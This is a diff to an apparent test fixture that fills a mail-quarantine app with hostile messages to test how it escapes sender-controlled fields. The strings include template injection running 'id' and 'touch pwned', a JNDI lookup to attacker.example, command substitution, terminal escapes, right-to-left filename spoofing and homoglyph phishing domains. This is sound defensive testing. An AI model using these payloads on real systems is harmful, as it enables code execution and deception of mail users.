@@ -25,9 +25,10 @@ ACCOUNTS = (
 )
 
 
-# Subjects that try to be a template, a terminal command, a formula, a page, or too much
+# Texts that try to be a template, a terminal command, a formula, a page, somebody else, or too much
 HOSTILE = (
     "{{ lookup('pipe', 'id') }} {% for x in [1] %}{{ x }}{% endfor %}",
+    "{{ lookup('pipe', 'touch pwned') }}{{ 1/0 }}{% raw %}{#",
     "${jndi:ldap://attacker.example/a} $(id) `id` %(id)s {0.__class__}",
     "\x1b[2J\x1b[31mred\x1b]0;title\x07 \x9b31m backspace\b\b\r\nSecond line\tTab",
     "invoice \u202efdp.exe\u202c \u2066isolated\u2069 \u200bzero width",
@@ -41,8 +42,13 @@ HOSTILE = (
     "\U0001f9d1\u200d\U0001f680 e\u0301\u0301\u0301 \u00e9 \u65e5\u672c\u8a9e",
     "!unsafe ---\n- yaml: [x]",
     "",
+    "nul \0 byte \0",
+    "p\u0430ypal.example xn--pypal-4ve.example \uff50aypal\uff0eexample",
+    "\u061carabic mark \u2028line\u2029paragraph \U000e0041\U000e0042tags \u00adsoft",
     "long " * 20000,
+    "x" * 2**20,
 )
+LONGEST_NAME = 1000
 
 
 def empty(_world: World, _size: int) -> None:
@@ -61,13 +67,28 @@ def _message(world: World, domain: str, *, hours: float, to: str, **traits: Any)
 
 
 def hostile(world: World, size: int) -> None:
-    """The default, and quarantined mail with hostile subjects and sender names in the first account."""
+    """The default, and quarantined mail in the first account that is hostile in every field that its sender controls."""
     default(world, size)
     domain = world.accounts[world.first_account].domain
-    world.add(
-        world.compose(age=HOUR * (1 + index), subject=subject, sender_name=subject, recipients=[f"alice@{domain}"])
-        for index, subject in enumerate(HOSTILE)
+    world.add(_hostile(world, text, HOUR * (1 + index), f"alice@{domain}") for index, text in enumerate(HOSTILE))
+
+
+def _hostile(world: World, text: str, age: float, recipient: str) -> Message:
+    name = text[:LONGEST_NAME]
+    message = world.compose(
+        age=age,
+        subject=text,
+        sender=f"{name}@attacker.example",
+        sender_name=name,
+        recipients=[recipient],
+        reasons=[name],
+        threats=[name],
+        links=[f"https://attacker.example/{name}"],
+        attachments=[{"name": name, "content_type": name, "size": 1, "sha256": "0" * 64}],
+        validation=PASS,
     )
+    message.message_id = f"<{name}.{message.serial}@attacker.example>"
+    return message
 
 
 def bulk(world: World, size: int) -> None:
